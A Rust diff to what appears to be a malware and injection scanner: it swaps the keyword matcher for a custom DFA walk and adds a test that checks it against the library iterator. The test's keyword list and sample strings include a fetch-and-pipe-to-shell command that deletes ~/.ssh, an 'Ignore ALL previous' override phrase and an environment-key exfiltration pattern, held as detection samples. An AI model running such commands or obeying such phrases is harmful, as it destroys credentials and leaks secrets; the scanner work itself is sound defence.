@@ -17,7 +17,9 @@ use crate::intent;
 use crate::model::{Finding, Limits, ScanReport, ScanStats, Severity};
 use crate::normalize;
 use crate::rules::{Detector, MatchCtx, Outcome, RegexDetector, RuleDef, Scope, RULES};
-use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
+use aho_corasick::automaton::{Automaton, StateID};
+use aho_corasick::dfa::DFA;
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, Anchored, MatchKind};
 use regex::Regex;
 use std::collections::HashMap;
 use std::time::Instant;
@@ -93,7 +95,11 @@ pub(crate) struct Hit {
 /// The compiled rule set. Cheap to share (`Arc<Scanner>` or `&'static`); `Send + Sync`.
 pub struct Scanner {
     rules: Vec<CompiledRule>,
-    keywords: AhoCorasick,
+    /// Every keyword of the regex rules and of the auxiliary passes, walked by
+    /// [`KeywordHits`].
+    keywords: DFA,
+    /// The keyword automaton's unanchored start state.
+    keyword_start: StateID,
     keyword_rules: Vec<Vec<usize>>,
     /// Per keyword: which auxiliary pass (data flow, decoding gates) waits for it.
     aux_kind: Vec<u8>,
@@ -168,11 +174,16 @@ impl Scanner {
                 aux_kind.push(kind);
             }
         }
-        let automaton = AhoCorasickBuilder::new()
+        // No prefilter: with this many keywords none would apply, and without one the start
+        // state is not special, so the walk in `KeywordHits` stops only at matches.
+        let automaton = aho_corasick::dfa::Builder::new()
             .ascii_case_insensitive(true)
             .match_kind(MatchKind::Standard)
-            .kind(Some(AhoCorasickKind::DFA))
+            .prefilter(false)
             .build(&keywords)
+            .map_err(|e| RuleError::Automaton(e.to_string()))?;
+        let keyword_start = automaton
+            .start_state(Anchored::No)
             .map_err(|e| RuleError::Automaton(e.to_string()))?;
         let aux = Aux {
             redact: Regex::new(
@@ -189,6 +200,7 @@ impl Scanner {
         Ok(Scanner {
             rules,
             keywords: automaton,
+            keyword_start,
             keyword_rules,
             aux_kind,
             ids,
@@ -402,16 +414,12 @@ impl Scanner {
         let mut checked_until: Vec<usize> = vec![0; self.rules.len()];
         let mut text_rules: Vec<usize> = Vec::new();
         let mut cur_line: Option<(usize, usize)> = None;
-        for m in self.keywords.find_overlapping_iter(text) {
-            let Some(rule_ids) = self.keyword_rules.get(m.pattern().as_usize()) else {
+        for m in KeywordHits::new(&self.keywords, self.keyword_start, text.as_bytes()) {
+            let Some(rule_ids) = self.keyword_rules.get(m.pattern) else {
                 continue;
             };
-            let pos = m.start();
-            let aux = self
-                .aux_kind
-                .get(m.pattern().as_usize())
-                .copied()
-                .unwrap_or(0);
+            let pos = m.start;
+            let aux = self.aux_kind.get(m.pattern).copied().unwrap_or(0);
             if aux != 0 {
                 if aux == AUX_FLOW_SOURCE || aux == AUX_INTENT {
                     let (ls, _) = match cur_line {
@@ -448,7 +456,7 @@ impl Scanner {
                 };
                 match det.scope {
                     Scope::Line => {
-                        if checked_until.get(r).is_some_and(|&u| m.end() <= u) {
+                        if checked_until.get(r).is_some_and(|&u| m.end <= u) {
                             continue;
                         }
                         // Short lines are searched whole; very long lines (minified code) in a
@@ -458,7 +466,7 @@ impl Scanner {
                         } else {
                             (
                                 floor_boundary(text, pos.saturating_sub(LONG_LINE_WINDOW).max(ls)),
-                                ceil_boundary(text, (m.end() + LONG_LINE_WINDOW).min(le)),
+                                ceil_boundary(text, (m.end + LONG_LINE_WINDOW).min(le)),
                             )
                         };
                         if let Some(slot) = checked_until.get_mut(r) {
@@ -847,6 +855,17 @@ impl FilesScan<'_> {
         }
     }
 
+    /// The keyword pass over one file, within the scan's budget of windows.
+    fn indicator_lines(&mut self, path: &str, bytes: &[u8]) -> crate::partial::Partial {
+        let partial = self
+            .scanner
+            .scan_indicator_lines(Some(path), bytes, self.windows_left);
+        self.windows_left = self
+            .windows_left
+            .saturating_sub(usize::try_from(partial.windows).unwrap_or(usize::MAX));
+        partial
+    }
+
     /// An image, font or media file cannot hold code, but text appended to one can still be
     /// sourced by a shell (`. icon.png` ignores NUL bytes): the keyword pass looks for the
     /// strongest indicators, and what the rules then find at medium or above is reported.
@@ -854,12 +873,7 @@ impl FilesScan<'_> {
         if self.windows_left == 0 {
             return;
         }
-        let partial = self
-            .scanner
-            .scan_indicator_lines(Some(path), bytes, self.windows_left);
-        self.windows_left = self
-            .windows_left
-            .saturating_sub(usize::try_from(partial.windows).unwrap_or(usize::MAX));
+        let partial = self.indicator_lines(path, bytes);
         let findings = partial
             .findings
             .into_iter()
@@ -1039,12 +1053,7 @@ impl FilesScan<'_> {
         }
         *budget -= len;
         self.coverage.past_count_passed += 1;
-        let partial = self
-            .scanner
-            .scan_indicator_lines(Some(path), bytes, self.windows_left);
-        self.windows_left = self
-            .windows_left
-            .saturating_sub(usize::try_from(partial.windows).unwrap_or(usize::MAX));
+        let partial = self.indicator_lines(path, bytes);
         self.coverage.past_windows_dropped += partial.windows_dropped;
         self.report.stats.bytes_scanned += partial.bytes_scanned;
         self.report.stats.findings_truncated += partial.truncated;
@@ -1127,6 +1136,84 @@ pub(crate) fn line_bounds(text: &str, pos: usize) -> (usize, usize) {
     (ls, le)
 }
 
+/// One occurrence of a keyword.
+#[derive(Debug, Clone, Copy)]
+struct KeywordHit {
+    pattern: usize,
+    start: usize,
+    end: usize,
+}
+
+/// Every occurrence of every keyword, overlapping, in order of where they end and, at one end,
+/// in the automaton's order: what `AhoCorasick::find_overlapping_iter` reports, in a tighter
+/// loop (the keyword pass walks every byte of every text, and keywords are rare).
+struct KeywordHits<'a> {
+    dfa: &'a DFA,
+    bytes: &'a [u8],
+    /// Bytes consumed.
+    at: usize,
+    sid: StateID,
+    /// The next match to report in the current (match) state, 0 when none is pending.
+    index: usize,
+}
+
+impl<'a> KeywordHits<'a> {
+    fn new(dfa: &'a DFA, start: StateID, bytes: &'a [u8]) -> KeywordHits<'a> {
+        KeywordHits {
+            dfa,
+            bytes,
+            at: 0,
+            sid: start,
+            index: 0,
+        }
+    }
+
+    fn hit(&self, index: usize) -> KeywordHit {
+        let pid = self.dfa.match_pattern(self.sid, index);
+        let len = self.dfa.pattern_len(pid);
+        KeywordHit {
+            pattern: pid.as_usize(),
+            start: self.at.saturating_sub(len),
+            end: self.at,
+        }
+    }
+}
+
+impl Iterator for KeywordHits<'_> {
+    type Item = KeywordHit;
+
+    fn next(&mut self) -> Option<KeywordHit> {
+        let dfa = self.dfa;
+        if self.index > 0 {
+            if self.index < dfa.match_len(self.sid) {
+                self.index += 1;
+                return Some(self.hit(self.index - 1));
+            }
+            self.index = 0;
+        }
+        let mut sid = self.sid;
+        let mut at = self.at;
+        while let Some(&b) = self.bytes.get(at) {
+            sid = dfa.next_state(Anchored::No, sid, b);
+            at += 1;
+            if dfa.is_special(sid) {
+                if dfa.is_dead(sid) {
+                    break;
+                }
+                if dfa.is_match(sid) {
+                    self.sid = sid;
+                    self.at = at;
+                    self.index = 1;
+                    return Some(self.hit(0));
+                }
+            }
+        }
+        self.sid = sid;
+        self.at = self.bytes.len();
+        None
+    }
+}
+
 /// Bytes searched on each side of a keyword in lines longer than twice this.
 const LONG_LINE_WINDOW: usize = 1024;
 
@@ -1171,5 +1258,82 @@ pub(crate) fn executable_kind(bytes: &[u8]) -> Option<&'static str> {
         }
         [0xfe, 0xed, 0xfa, 0xce | 0xcf] | [0xce | 0xcf, 0xfa, 0xed, 0xfe] => Some("Mach-O"),
         _ => None,
+    }
+}
+
+#[cfg(test)]
+mod keyword_hits_tests {
+    use super::*;
+
+    /// `KeywordHits` reports exactly what `find_overlapping_iter` reports on the same
+    /// automaton: every occurrence, overlapping and nested ones included, in the same order.
+    #[test]
+    fn keyword_hits_match_the_overlapping_iterator() {
+        let words = [
+            "curl",
+            "url",
+            "ur",
+            "://",
+            "http",
+            "https://",
+            "os.environ",
+            "environ",
+            "env",
+            "sk-",
+            "api_key",
+            "api key",
+            "key",
+            "rm -",
+            "rm -rf",
+            "|sh",
+            "| sh",
+            "~/.",
+            "~/.ssh",
+            "ssh",
+            "never",
+            "eval",
+            "exec",
+            "exec(",
+            "x",
+            "xx",
+            "xxx",
+            "ignore",
+            "ignore all",
+        ];
+        let texts = [
+            crate::eval::benchmark_text(64 * 1024),
+            "CURL https://X.invalid/i.sh | SH; rm -rf ~/.ssh; xxxxx".to_string(),
+            "Ignore ALL previous; eval(exec(os.environ['API_KEY']))\nsk-sk-sk-".to_string(),
+            String::new(),
+            "x".to_string(),
+        ];
+        let dfa = aho_corasick::dfa::Builder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .prefilter(false)
+            .build(words)
+            .expect("keywords compile");
+        let start = dfa.start_state(Anchored::No).expect("unanchored start");
+        let reference = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .kind(Some(AhoCorasickKind::DFA))
+            .build(words)
+            .expect("keywords compile");
+        for text in &texts {
+            let ours: Vec<(usize, usize, usize)> = KeywordHits::new(&dfa, start, text.as_bytes())
+                .map(|m| (m.pattern, m.start, m.end))
+                .collect();
+            let theirs: Vec<(usize, usize, usize)> = reference
+                .find_overlapping_iter(text.as_str())
+                .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
+                .collect();
+            assert_eq!(ours, theirs, "{:?}", text.get(..80));
+        }
+        // Nested and overlapping occurrences are all there.
+        let all: Vec<usize> = KeywordHits::new(&dfa, start, b"xxx")
+            .map(|m| m.pattern)
+            .collect();
+        assert_eq!(all.len(), 6, "{all:?}");
     }
 }
